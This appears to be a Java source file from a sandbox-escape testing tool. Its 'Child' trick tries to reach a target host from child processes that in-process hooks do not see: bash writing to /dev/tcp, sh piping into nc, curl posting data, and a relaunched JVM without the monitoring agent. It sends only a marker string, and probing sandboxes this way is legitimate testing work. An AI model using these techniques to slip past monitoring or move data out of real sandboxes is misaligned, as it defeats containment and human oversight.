package com.lockroom.escape.tricks;

import com.lockroom.escape.Attempts;
import com.lockroom.escape.Target;
import com.lockroom.escape.Trick;
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.InputStream;
import java.util.concurrent.TimeUnit;

/** Has another program send it: what a child process does is in no hook. */
public final class Child implements Trick {
    @Override
    public void go(Attempts attempts, Target target, String value) {
        String line = "@child " + value;
        String where = target.host + "/" + target.tcp;
        attempts.one("bash", () -> run("/bin/bash", "-c", "echo '" + line + "' > /dev/tcp/" + where));
        attempts.one("sh", () -> run("/system/bin/sh", "-c", "echo '" + line + "' | nc " + where.replace('/', ' ')));
        attempts.one("curl", () -> run("curl", "-m", "2", "-d", line, "http://" + target.host + ":" + target.tcp + "/"));
        attempts.one("exec", () -> {
            Process process = Runtime.getRuntime().exec(new String[] {"/bin/true"});
            return "ended with " + process.waitFor();
        });
        attempts.one("java", () -> run(java(),
                "-Xshare:auto", "-XX:+UseSerialGC", "-Xmx32m", "-cp", System.getProperty("java.class.path"),
                "com.lockroom.escape.tricks.Sender", target.host, String.valueOf(target.tcp), line));
    }

    /** The program that this process runs: on the sandbox a JVM, which may be started once more, without any agent. */
    static String java() {
        return System.getProperty("java.home") + File.separator + "bin" + File.separator + "java";
    }

    static String run(String... command) throws Exception {
        Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
        process.getOutputStream().close();
        if (!process.waitFor(5, TimeUnit.SECONDS)) {
            process.destroy();
            return "still runs";
        }
        ByteArrayOutputStream said = new ByteArrayOutputStream();
        byte[] block = new byte[512];
        InputStream in = process.getInputStream();
        for (int n = in.read(block); n > 0 && said.size() < 4096; n = in.read(block)) {
            said.write(block, 0, n);
        }
        if (process.exitValue() != 0) {
            throw new IllegalStateException("ended with " + process.exitValue() + ": " + said.toString("UTF-8"));
        }
        return "ended with 0: " + said.toString("UTF-8");
    }
}
